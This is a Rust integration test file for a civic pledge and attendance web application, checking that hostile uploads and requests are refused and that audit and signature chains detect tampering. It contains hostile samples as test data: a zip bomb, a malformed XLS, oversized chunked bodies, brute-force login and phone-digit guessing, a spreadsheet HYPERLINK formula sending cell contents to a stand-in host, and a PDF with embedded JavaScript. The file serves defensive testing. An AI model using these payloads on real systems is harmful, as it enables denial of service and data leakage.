//! Hostile input: spreadsheets that declare more than they hold, bodies larger than any form,
//! parallel guesses at passwords and phone digits, and a unit administrator reaching into
//! another unit's people. Each scenario is what an attacker sent; the server must refuse
//! politely and stay up.

use std::io::Write;

use futures_util::future::join_all;
use reqwest::multipart::{Form, Part};
use serde_json::{json, Value};

use crate::harness::{error_of, Client, TestApp, PASSWORD};
use crate::samples::{corner_to_corner, xls};

async fn upload(c: &Client, path: &str, name: &str, bytes: Vec<u8>) -> reqwest::Response {
    let form = Form::new().part("file", Part::bytes(bytes).file_name(name.to_string()));
    c.post_multipart(path, form).await
}

async fn still_up(t: &TestApp) {
    assert_eq!(t.client().get("/healthz").await.status(), 200, "the server is still answering");
}

/// A zip whose one entry inflates past the limit: a few hundred kilobytes on the wire.
fn zip_bomb() -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("xl/sharedStrings.xml", options).unwrap();
    let chunk = vec![b'A'; 1 << 20];
    for _ in 0..101 {
        zip.write_all(&chunk).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

async fn spreadsheets_are_read_within_bounds(t: TestApp) {
    let admin = t.api_as("admin").await;
    let member = t.api_as("wuyilu").await;
    let camp = t.scalar("SELECT id FROM campaigns ORDER BY id LIMIT 1").await;
    let placements = format!("/api/v1/campaigns/{camp}/placements/import");

    let file = corner_to_corner("姓名");
    assert!(file.len() < 10_000, "a tiny file: {} bytes", file.len());
    let (status, _, message, _) =
        error_of(upload(&member, &placements, "投放.xlsx", file.clone()).await).await;
    assert_eq!(status, 422, "{message}");
    assert!(message.contains("60000行"), "names the limit: {message}");
    let (status, _, message, _) =
        error_of(upload(&admin, "/api/v1/people/import?mode=preview", "花名册.xlsx", file).await).await;
    assert_eq!((status, message.contains("60000行")), (422, true), "{message}");
    still_up(&t).await;

    let (status, _, message, _) =
        error_of(upload(&admin, "/api/v1/people/import?mode=preview", "花名册.xlsx", zip_bomb()).await).await;
    assert_eq!(status, 422, "{message}");
    assert!(message.contains("解压后超过100MB"), "{message}");

    // XLS: a broken container and a sheet spanning the whole grid are refused; a real one reads.
    let mut broken = xls(&[(0, 0, 1.0)]);
    broken[44..48].copy_from_slice(&u32::MAX.to_le_bytes()); // four billion FAT sectors
    let resp = upload(&admin, "/api/v1/people/import?mode=preview", "花名册.xls", broken).await;
    assert!([415, 422].contains(&resp.status().as_u16()), "refused politely: {}", resp.status());
    still_up(&t).await;
    let wide = xls(&[(0, 0, 1.0), (59_000, 255, 2.0)]);
    let (status, _, message, _) =
        error_of(upload(&admin, "/api/v1/people/import?mode=preview", "花名册.xls", wide).await).await;
    assert_eq!(status, 422);
    assert!(message.contains("1500000个单元格"), "{message}");
    let sheet =
        qinglian::services::sheet::read_sheet(&xls(&[(0, 0, 7.0), (2, 1, 13_800_138_000.0)])).unwrap();
    assert_eq!(sheet.rows.len(), 3);
    assert_eq!(sheet.rows[2], (3, vec![String::new(), "13800138000".to_string()]));

    // CSV: a million commas on one line; more rows than any roster.
    let commas = format!("姓名{}\n", ",".repeat(1_000_000));
    let (status, _, message, _) =
        error_of(upload(&admin, "/api/v1/people/import?mode=preview", "a.csv", commas.into_bytes()).await)
            .await;
    assert_eq!((status, message.contains("256列")), (422, true), "{message}");
    let rows = "姓名,单位\n".to_string() + &"张三,东庄村\n".repeat(60_001);
    let (status, _, message, _) =
        error_of(upload(&admin, "/api/v1/people/import?mode=preview", "a.csv", rows.into_bytes()).await)
            .await;
    assert_eq!((status, message.contains("60000行")), (422, true), "{message}");
    still_up(&t).await;
}

/// Sends a request head, then `chunk` again and again until the server answers (or `chunk` is
/// empty: nothing after the head). Returns the answer's status. A server that waited for the
/// whole body would never answer.
async fn raw_status(t: &TestApp, head: String, chunk: Vec<u8>) -> u16 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let stream = tokio::net::TcpStream::connect(t.base.trim_start_matches("http://")).await.unwrap();
    let (mut rd, mut wr) = stream.into_split();
    let writer = tokio::spawn(async move {
        wr.write_all(head.as_bytes()).await?;
        while !chunk.is_empty() {
            wr.write_all(&chunk).await?;
        }
        std::future::pending::<()>().await;
        Ok::<_, std::io::Error>(())
    });
    let mut buf = vec![0u8; 512];
    let n = tokio::time::timeout(std::time::Duration::from_secs(20), rd.read(&mut buf))
        .await
        .expect("the server answers without waiting for the body")
        .unwrap();
    writer.abort();
    let line = String::from_utf8_lossy(&buf[..n]).to_string();
    line.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or_else(|| panic!("{line}"))
}

/// One chunk of a chunked body: 64 KiB of `a`.
fn chunk_of_a() -> Vec<u8> {
    [&b"10000\r\n"[..], &vec![b'a'; 0x10000], b"\r\n"].concat()
}

async fn bodies_are_limited_before_they_are_read(t: TestApp) {
    let pledge = t.scalar("SELECT id FROM pledges ORDER BY id LIMIT 1").await;
    let form = "Content-Type: application/x-www-form-urlencoded";
    // A declared 250 MB is refused from its headers.
    let head =
        format!("POST /login HTTP/1.1\r\nHost: t\r\n{form}\r\nContent-Length: {}\r\n\r\n", 250u64 << 20);
    assert_eq!(raw_status(&t, head, Vec::new()).await, 413);
    // An endless body with no token to check it against is refused before it is read.
    let head =
        format!("POST /p/{pledge} HTTP/1.1\r\nHost: t\r\n{form}\r\nTransfer-Encoding: chunked\r\n\r\n");
    assert_eq!(raw_status(&t, head, chunk_of_a()).await, 403);
    // With a token to compare (a sign-in form's cookie), it stops at the form limit.
    let head = format!(
        "POST /login HTTP/1.1\r\nHost: t\r\n{form}\r\nCookie: ql_pre=abc\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    assert_eq!(raw_status(&t, head, chunk_of_a()).await, 413);
    // Anonymous multipart gets the form limit, not the upload limit.
    let head = format!(
        "POST /api/v1/people/import HTTP/1.1\r\nHost: t\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: {}\r\n\r\n",
        3 << 20
    );
    assert_eq!(raw_status(&t, head, Vec::new()).await, 413);
    // JSON over the limit gets the JSON error.
    let admin = t.api_as("admin").await;
    let big = json!({"name": "x".repeat(2 << 20)});
    let (status, code, _, _) = error_of(admin.post_json("/api/v1/tokens", &big).await).await;
    assert_eq!((status, code.as_str()), (413, "payload_too_large"));
    still_up(&t).await;
}

async fn parallel_guesses_never_pass_the_lockout(t: TestApp) {
    let guesses = (0..25).map(|_| async {
        t.client()
            .post_json("/api/v1/auth/login", &json!({"username": "jiwei", "password": "Wrong#pass1"}))
            .await
    });
    let statuses: Vec<u16> = join_all(guesses).await.iter().map(|r| r.status().as_u16()).collect();
    assert!(statuses.iter().all(|s| *s == 422 || *s == 429), "{statuses:?}");
    let checked = t
        .scalar(
            "SELECT COUNT(*) FROM audit_log WHERE actor_name = 'jiwei' AND action = 'auth.login'
             AND detail LIKE '%bad_password%'",
        )
        .await;
    assert_eq!(checked, 5, "exactly five passwords were checked");
    let resp =
        t.client().post_json("/api/v1/auth/login", &json!({"username": "jiwei", "password": PASSWORD})).await;
    assert_eq!(resp.status(), 429, "locked, even for the right password");

    // Nineteen wrong and one right at once: the right one gets in only if it was among the
    // first five checks, and each success starts a new run of five (it ends the run of
    // failures, as it does one at a time), so at most five wrong checks a run.
    let t = &t;
    let attempts = (0..20).map(|i| async move {
        let password = if i == 10 { PASSWORD } else { "Wrong#pass1" };
        t.client().post_json("/api/v1/auth/login", &json!({"username": "shenji", "password": password})).await
    });
    let statuses: Vec<u16> = join_all(attempts).await.iter().map(|r| r.status().as_u16()).collect();
    let wrong = t
        .scalar(
            "SELECT COUNT(*) FROM audit_log WHERE actor_name = 'shenji' AND action = 'auth.login'
             AND detail LIKE '%bad_password%'",
        )
        .await;
    let successes = statuses.iter().filter(|s| **s == 200).count() as i64;
    assert!(successes <= 1 && wrong <= 5 * (1 + successes), "{wrong} wrong checks: {statuses:?}");
    still_up(t).await;
}

async fn phone_digits_cannot_be_guessed(t: TestApp) {
    let org = t.api_as("jiwei").await;
    let activity = t.scalar("SELECT id FROM activities WHERE kind = 'warning_education'").await;
    let host = t.scalar("SELECT id FROM units WHERE name = '市纪委监委'").await;
    let now = qinglian::db::now();
    let body = json!({
        "title": "警示教育（防代签）", "kind": "warning", "host_unit_id": host, "venue": "礼堂",
        "starts_at": qinglian::domain::format_datetime(now), "ends_at": qinglian::domain::format_datetime(now + 7200),
        "audience": {"ranks": ["科级"]}
    });
    let sitting = org.post_json(&format!("/api/v1/activities/{activity}/sittings"), &body).await;
    let sitting = sitting.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    let (name, phone): (String, String) =
        sqlx::query_as("SELECT name, phone FROM people WHERE rank = '科级' ORDER BY id LIMIT 1")
            .fetch_one(&t.app.db.pool)
            .await
            .unwrap();
    let phone = t.open(&phone);
    let code =
        org.get_json(&format!("/api/v1/sittings/{sitting}/qr")).await["code"].as_str().unwrap().to_string();
    let right = phone[7..].to_string();
    let wrong: Vec<String> = (0..48).map(|i| format!("{:04}", i)).filter(|d| *d != right).take(45).collect();
    let tr = &t;
    let guess =
        |body: Value| async move { tr.client().post_json("/api/v1/signin", &body).await.status().as_u16() };
    // Eight parallel guesses on one phone's pass: five are checked, the rest refused.
    let pass = t.app.signer.pass(sitting, qinglian::db::now());
    let statuses =
        join_all(wrong[..8].iter().map(|d| guess(json!({"pass": pass, "name": name, "last4": d})))).await;
    assert_eq!(statuses.iter().filter(|s| **s == 422).count(), 5, "{statuses:?}");
    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 3, "{statuses:?}");
    // The room's code with the same name: the name has had eight attempts (refused ones count
    // too), so two more are checked, ten in all, and no more.
    let statuses =
        join_all(wrong[8..].iter().map(|d| guess(json!({"code": code, "name": name, "last4": d})))).await;
    assert_eq!(statuses.iter().filter(|s| **s == 422).count(), 2, "{statuses:?}");
    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), wrong.len() - 8 - 2);
    // The right digits are refused now too; the person asks the clerk.
    let (status, _, message, _) = error_of(
        t.client().post_json("/api/v1/signin", &json!({"code": code, "name": name, "last4": right})).await,
    )
    .await;
    assert_eq!(status, 429);
    assert!(message.contains("现场工作人员"), "{message}");
    assert_eq!(t.scalar(&format!("SELECT COUNT(*) FROM checkins WHERE sitting_id = {sitting}")).await, 0);
    // The organiser sees the refused attempts.
    let attendance = org.get_json(&format!("/api/v1/sittings/{sitting}/attendance")).await;
    assert!(attendance["refused"].as_i64().unwrap() >= 6, "{attendance}");
}

async fn a_unit_admin_cannot_take_another_units_people(t: TestApp) {
    let (id, staff_no, unit, rank, party): (i64, String, i64, String, i64) = sqlx::query_as(
        "SELECT p.id, p.staff_no, p.unit_id, p.rank, p.party_member FROM people p JOIN units u ON u.id = p.unit_id
         WHERE u.name = '五一路派出所' AND p.staff_no IS NOT NULL AND p.rank <> '' ORDER BY p.id LIMIT 1",
    )
    .fetch_one(&t.app.db.pool)
    .await
    .unwrap();
    let name: String = sqlx::query_scalar("SELECT name FROM people WHERE id = $1")
        .bind(id)
        .fetch_one(&t.app.db.pool)
        .await
        .unwrap();
    let dongzhuang = t.api_as("dongzhuang").await;
    let csv = format!("姓名,单位,工号\n{name},东庄村,{staff_no}\n");
    for mode in ["preview", "all"] {
        let resp = upload(
            &dongzhuang,
            &format!("/api/v1/people/import?mode={mode}"),
            "a.csv",
            csv.clone().into_bytes(),
        )
        .await;
        let report: Value = resp.json().await.unwrap();
        assert_eq!(report["rows"][0]["action"], "error", "{report}");
        assert!(report["rows"][0]["errors"][0].as_str().unwrap().contains("属于其他单位"), "{report}");
        assert_eq!(report["written"], false);
    }
    let after: (i64, String, i64) =
        sqlx::query_as("SELECT unit_id, rank, party_member FROM people WHERE id = $1")
            .bind(id)
            .fetch_one(&t.app.db.pool)
            .await
            .unwrap();
    assert_eq!(after, (unit, rank.clone(), party), "untouched");

    // The city's administrator may move her, and a file without the rank column keeps her rank.
    let admin = t.api_as("admin").await;
    let resp = upload(&admin, "/api/v1/people/import?mode=all", "a.csv", csv.into_bytes()).await;
    let report: Value = resp.json().await.unwrap();
    assert_eq!(report["updated"], 1, "{report}");
    let after: (String, String, i64) = sqlx::query_as(
        "SELECT u.name, p.rank, p.party_member FROM people p JOIN units u ON u.id = p.unit_id WHERE p.id = $1",
    )
    .bind(id)
    .fetch_one(&t.app.db.pool)
    .await
    .unwrap();
    assert_eq!(after, ("东庄村".to_string(), rank, party));
}

async fn a_password_change_ends_the_other_sessions(t: TestApp) {
    let here = t.api_as("jiwei").await;
    let elsewhere = t.api_as("jiwei").await;
    let browser = t.browser_as("jiwei").await;
    let token =
        here.post_json("/api/v1/tokens", &json!({"name": "对接"})).await.json::<Value>().await.unwrap();
    let mut integration = t.client();
    integration.token = Some(token["token"].as_str().unwrap().to_string());
    assert_eq!(integration.get("/api/v1/me").await.status(), 200);
    let resp = here
        .post_json("/api/v1/me/password", &json!({"current": PASSWORD, "password": "Another#2022pass"}))
        .await;
    assert_eq!(resp.status(), 204);
    assert_eq!(here.get("/api/v1/me").await.status(), 200, "the session that changed it stays");
    assert_eq!(elsewhere.get("/api/v1/me").await.status(), 401);
    assert_eq!(integration.get("/api/v1/me").await.status(), 401);
    assert_eq!(browser.get("/").await.status(), 303, "the browser is signed out");

    // The security administrator sees and ends a user's sessions; the system administrator may not.
    let id = t.scalar("SELECT id FROM users WHERE username = 'jiwei'").await;
    let admin = t.api_as("admin").await;
    assert_eq!(admin.get(&format!("/api/v1/users/{id}/sessions")).await.status(), 403);
    let security = t.api_as("anquan").await;
    let sessions = security.get_json(&format!("/api/v1/users/{id}/sessions")).await;
    assert_eq!(sessions.as_array().unwrap().len(), 1, "{sessions}");
    let resp = security
        .request(reqwest::Method::DELETE, &format!("/api/v1/users/{id}/sessions"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 204);
    assert_eq!(here.get("/api/v1/me").await.status(), 401);
    let resp = t.api_as("dongzhuang").await.get(&format!("/api/v1/users/{id}/sessions")).await;
    assert_eq!(resp.status(), 403);
}

async fn exports_do_not_carry_live_formulas(t: TestApp) {
    let formula = "=HYPERLINK(\"http://x/?\"&A1,\"点击\")";
    let resp =
        t.client().post_json("/api/v1/auth/login", &json!({"username": formula, "password": "x"})).await;
    assert_eq!(resp.status(), 422);
    let auditor = t.browser_as("shenji").await;
    let csv = auditor.text("/audit/export.csv").await;
    assert!(csv.contains("'=HYPERLINK"), "neutralised");
    assert!(
        !csv.lines().any(|l| l.split(',').any(|f| f.trim_matches('"').starts_with('='))),
        "no cell starts with ="
    );
}

async fn text_that_is_not_text_never_gets_in(t: TestApp) {
    let c = t.client();
    let resp = c
        .post_json("/api/v1/auth/login", &json!({"username": "gu\u{0}es\u{202e}s\u{7}", "password": "x"}))
        .await;
    assert_eq!(resp.status(), 422);
    let csrf = c.csrf_from("/login").await;
    let resp = c
        .post_form("/login", &[("_csrf", &csrf), ("username", "fo\u{0}rm\u{2066}"), ("password", "x")])
        .await;
    assert_eq!(resp.status(), 422);
    let names: Vec<String> = sqlx::query_scalar(
        "SELECT actor_name FROM audit_log WHERE action = 'auth.login' AND outcome = 'failed' ORDER BY id",
    )
    .fetch_all(&t.app.db.pool)
    .await
    .unwrap();
    assert_eq!(names, vec!["guess".to_string(), "form".to_string()]);
}

async fn sitting_registration_is_for_public_sittings(t: TestApp) {
    let org = t.api_as("jiwei").await;
    let activity = t.scalar("SELECT id FROM activities WHERE kind = 'warning_education'").await;
    let host = t.scalar("SELECT id FROM units WHERE name = '市纪委监委'").await;
    let now = qinglian::db::now();
    let sitting = |public: bool| {
        json!({"title": "内部警示教育会", "kind": "warning", "host_unit_id": host, "venue": "第三会议室",
            "starts_at": qinglian::domain::format_datetime(now + 3600), "ends_at": qinglian::domain::format_datetime(now + 7200),
            "public": public, "capacity": 0, "audience": {"ranks": ["科级"]}})
    };
    let path = format!("/api/v1/activities/{activity}/sittings");
    let internal =
        org.post_json(&path, &sitting(false)).await.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    let public =
        org.post_json(&path, &sitting(true)).await.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    let stranger = t.client();
    let resp = stranger.get(&format!("/sittings/{internal}/register")).await;
    assert_eq!(resp.status(), 404);
    assert!(!resp.text().await.unwrap().contains("第三会议室"), "nothing of it is shown");
    let reg =
        |i: usize| json!({"name": format!("报名者{i}"), "phone": format!("1390000{i:04}"), "consent": true});
    let (status, _, _, _) =
        error_of(stranger.post_json(&format!("/api/v1/sittings/{internal}/registrations"), &reg(0)).await)
            .await;
    assert_eq!(status, 404);
    // Public registrations from one address are limited like signatures.
    let mut statuses = Vec::new();
    for i in 0..31 {
        statuses.push(
            stranger
                .post_json(&format!("/api/v1/sittings/{public}/registrations"), &reg(i))
                .await
                .status()
                .as_u16(),
        );
    }
    assert_eq!(statuses.iter().filter(|s| **s == 200).count(), 30, "{statuses:?}");
    assert_eq!(statuses[30], 429);
}

async fn every_api_error_has_the_one_shape(t: TestApp) {
    let admin = t.api_as("admin").await;
    let raw = |body: &'static str| {
        admin
            .http
            .post(format!("{}/api/v1/tokens", admin.base))
            .bearer_auth(admin.token.clone().unwrap())
            .header("content-type", "application/json")
            .body(body)
            .send()
    };
    for (body, status) in [("{not json", 400), (r#"{"name": 7}"#, 422), ("[]", 422)] {
        let resp = raw(body).await.unwrap();
        assert_eq!(resp.status(), status, "{body}");
        assert!(resp.headers()["content-type"].to_str().unwrap().starts_with("application/json"));
        let (_, code, message, _) = error_of(resp).await;
        assert!(!code.is_empty() && message.contains("请求"), "{code} {message}");
    }
    for path in ["/api/v1/campaigns/abc", "/api/v1/nothing-here"] {
        let (status, code, _, _) = error_of(admin.get(path).await).await;
        assert!(matches!((status, code.as_str()), (400, "bad_request") | (404, "not_found")), "{path}");
    }
    let resp = admin.request(reqwest::Method::PUT, "/api/v1/me").send().await.unwrap();
    let (status, code, _, _) = error_of(resp).await;
    assert_eq!((status, code.as_str()), (405, "method_not_allowed"));
    // A multipart body that is not multipart is malformed (400), not too large.
    let resp = admin
        .request(reqwest::Method::POST, "/api/v1/people/import")
        .header("content-type", "multipart/form-data; boundary=b")
        .body("--b\r\n--b--\r\n")
        .send()
        .await
        .unwrap();
    let (status, code, message, _) = error_of(resp).await;
    assert_eq!((status, code.as_str()), (400, "bad_request"), "{message}");
    assert!(message.contains("上传内容格式不正确"), "{message}");
    let doc = admin.get_json("/api/openapi.json").await;
    assert!(doc["paths"]["/api/v1/files/{id}"]["get"].is_object(), "files are documented");
    let upload =
        &doc["paths"]["/api/v1/people/import"]["post"]["requestBody"]["content"]["multipart/form-data"];
    assert_eq!(
        upload["schema"]["$ref"], "#/components/schemas/SpreadsheetUpload",
        "uploads say what they take"
    );
}

async fn uploaded_pdfs_are_downloaded_not_opened(t: TestApp) {
    let village = t.scalar("SELECT t.id FROM tasks t JOIN units u ON u.id = t.unit_id WHERE u.name = '东庄村' ORDER BY t.id LIMIT 1").await;
    let unit = t.api_as("dongzhuang").await;
    let pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".to_vec();
    let form = Form::new()
        .text("entry_date", "2022-05-20")
        .text("place", "东庄\u{0}村\u{202e}")
        .text("participants", "10")
        .text("summary", "学习")
        .part("files", Part::bytes(pdf).file_name("签到表.pdf"));
    let resp = unit.post_multipart(&format!("/api/v1/tasks/{village}/entries"), form).await;
    assert_eq!(resp.status(), 200);
    let entry = resp.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    let e = unit.get_json(&format!("/api/v1/entries/{entry}")).await;
    assert_eq!(e["place"], "东庄村", "multipart text fields are cleaned too");
    let file = e["attachments"][0]["id"].as_i64().unwrap();
    let resp = unit.get(&format!("/api/v1/files/{file}")).await;
    assert_eq!(resp.status(), 200);
    assert!(resp.headers()["content-disposition"].to_str().unwrap().starts_with("attachment"));
    assert!(resp.headers()["content-security-policy"].to_str().unwrap().contains("sandbox"));
}

async fn exec(t: &TestApp, sql: &str) {
    sqlx::query(sql).execute(&t.app.db.pool).await.unwrap_or_else(|e| panic!("{sql}: {e}"));
}

async fn both_chains_catch_tampering(t: TestApp) {
    let org = t.api_as("jiwei").await;
    let host = t.scalar("SELECT id FROM units WHERE name = '市委统战部'").await;
    let body = json!({"title": "亲清政商关系承诺书", "body": "一、坚持守法经营。", "host_unit_id": host, "public": true});
    let pledge =
        org.post_json("/api/v1/pledges", &body).await.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
    let strokes = "[[[100,200],[200,120],[320,260],[450,140]],[[520,220],[700,200],[880,240]]]";
    let mut codes = Vec::new();
    for i in 0..3 {
        let signer = json!({"name": format!("签名人{i}"), "org": "清河公司", "phone": format!("1376400{i:04}"), "strokes": strokes, "consent": true});
        let v: Value = t
            .client()
            .post_json(&format!("/api/v1/pledges/{pledge}/sign"), &signer)
            .await
            .json()
            .await
            .unwrap();
        codes.push(v["code"].as_str().unwrap().to_string());
    }
    let admin = t.api_as("admin").await;
    let auditor = t.api_as("shenji").await;
    let intact = |v: Value| v["intact"].as_bool().unwrap();
    assert!(intact(admin.get_json("/api/v1/chain").await));
    assert!(intact(auditor.get_json("/api/v1/audit/chain").await));

    // The pledge's text changed in the database: the check page still shows the text as signed,
    // and changing the kept text breaks the chain.
    exec(
        &t,
        &format!("UPDATE pledges SET title = '被改过的标题', body = '被改过的正文' WHERE id = {pledge}"),
    )
    .await;
    let html = t.client().text(&format!("/check?code={}", codes[0])).await;
    assert!(html.contains("一、坚持守法经营。") && !html.contains("被改过的正文"), "the text as signed");
    assert!(intact(admin.get_json("/api/v1/chain").await));
    let kept: (i64, String) =
        sqlx::query_as("SELECT id, text FROM signed_texts WHERE subject = 'pledge' AND subject_id = $1")
            .bind(pledge)
            .fetch_one(&t.app.db.pool)
            .await
            .unwrap();
    exec(&t, &format!("UPDATE signed_texts SET text = '被改过的正文' WHERE id = {}", kept.0)).await;
    assert!(!intact(admin.get_json("/api/v1/chain").await), "the kept text is covered");
    let html = t.client().text(&format!("/check?code={}", codes[0])).await;
    assert!(
        html.contains("与存证不符") && !html.contains("真实有效"),
        "the check page does not vouch for it"
    );
    sqlx::query("UPDATE signed_texts SET text = $1 WHERE id = $2")
        .bind(&kept.1)
        .bind(kept.0)
        .execute(&t.app.db.pool)
        .await
        .unwrap();
    assert!(intact(admin.get_json("/api/v1/chain").await));

    // The address, the person and the withdrawal mark are covered too.
    let first = t
        .scalar(&format!("SELECT MIN(id) FROM signatures WHERE subject_id = {pledge} AND subject = 'pledge'"))
        .await;
    for (change, undo) in [
        ("ip = '6.6.6.6'", "ip = '127.0.0.1'"),
        ("person_id = 1", "person_id = NULL"),
        ("withdrawn_at = 1", "withdrawn_at = 0"),
    ] {
        exec(&t, &format!("UPDATE signatures SET {change} WHERE id = {first}")).await;
        let report = admin.get_json("/api/v1/chain").await;
        assert!(!intact(report.clone()), "{change}: {report}");
        exec(&t, &format!("UPDATE signatures SET {undo} WHERE id = {first}")).await;
        assert!(intact(admin.get_json("/api/v1/chain").await), "{undo}");
    }

    // The newest signature deleted and the head moved back: the audit chain still names it.
    let (last, prev): (i64, String) =
        sqlx::query_as("SELECT id, prev_digest FROM signatures ORDER BY id DESC LIMIT 1")
            .fetch_one(&t.app.db.pool)
            .await
            .unwrap();
    exec(&t, &format!("DELETE FROM signatures WHERE id = {last}")).await;
    sqlx::query("UPDATE chain_head SET digest = $1").bind(&prev).execute(&t.app.db.pool).await.unwrap();
    let report = admin.get_json("/api/v1/chain").await;
    assert!(!intact(report.clone()), "a truncated tail shows: {report}");
    let check = std::process::Command::new(env!("CARGO_BIN_EXE_qinglian"))
        .arg("verify-chain")
        .env("QINGLIAN_DATABASE_URL", database_url(&t))
        .env("QINGLIAN_DATA_DIR", t.app.config.data_dir.clone())
        .output()
        .unwrap();
    assert!(!check.status.success(), "verify-chain fails");
    assert!(String::from_utf8_lossy(&check.stdout).contains("签名链校验失败"));
}

fn database_url(t: &TestApp) -> String {
    t.app.config.database_url.clone()
}

async fn the_audit_log_is_chained_and_guarded(t: TestApp) {
    let auditor = t.api_as("shenji").await;
    let report = auditor.get_json("/api/v1/audit/chain").await;
    assert_eq!(
        (report["intact"].as_bool(), report["triggers"].as_bool()),
        (Some(true), Some(true)),
        "{report}"
    );
    // A back-dated row inserted by hand breaks it.
    exec(&t, "INSERT INTO audit_log (at, actor_name, ip, action, entity, entity_id, detail, outcome) VALUES (1, 'x', '', 'user.create', 'user', '1', '{}', 'ok')").await;
    let report = auditor.get_json("/api/v1/audit/chain").await;
    assert_eq!(report["intact"], false, "{report}");
}

async fn dropped_triggers_are_seen_and_restored(t: TestApp) {
    let postgres = t.app.db.engine == qinglian::db::Engine::Postgres;
    if postgres {
        exec(&t, "DROP TRIGGER audit_log_no_change ON audit_log").await;
    } else {
        exec(&t, "DROP TRIGGER audit_log_no_update").await;
        exec(&t, "DROP TRIGGER audit_log_no_delete").await;
    }
    let victim = t.scalar("SELECT MIN(id) FROM audit_log WHERE digest <> ''").await + 3;
    exec(&t, &format!("UPDATE audit_log SET actor_name = '别人' WHERE id = {victim}")).await;
    let auditor = t.api_as("shenji").await;
    let report = auditor.get_json("/api/v1/audit/chain").await;
    assert_eq!(
        (report["intact"].as_bool(), report["triggers"].as_bool()),
        (Some(false), Some(false)),
        "{report}"
    );
    assert_eq!(report["broken_at"].as_i64(), Some(victim));
    // A server starting on it says so and puts the triggers back.
    assert!(!qinglian::services::audit::guard_triggers(&t.app.db).await.unwrap());
    assert!(qinglian::services::audit::triggers_present(&t.app.db).await.unwrap());
    assert!(sqlx::query("DELETE FROM audit_log").execute(&t.app.db.pool).await.is_err(), "append-only again");
    assert_eq!(t.scalar("SELECT COUNT(*) FROM audit_log WHERE action = 'audit.triggers_restored'").await, 1);
}

crate::on_both_engines!(
    spreadsheets_are_read_within_bounds,
    bodies_are_limited_before_they_are_read,
    parallel_guesses_never_pass_the_lockout,
    phone_digits_cannot_be_guessed,
    a_unit_admin_cannot_take_another_units_people,
    a_password_change_ends_the_other_sessions,
    exports_do_not_carry_live_formulas,
    text_that_is_not_text_never_gets_in,
    sitting_registration_is_for_public_sittings,
    every_api_error_has_the_one_shape,
    uploaded_pdfs_are_downloaded_not_opened,
    both_chains_catch_tampering,
    the_audit_log_is_chained_and_guarded,
    dropped_triggers_are_seen_and_restored,
);
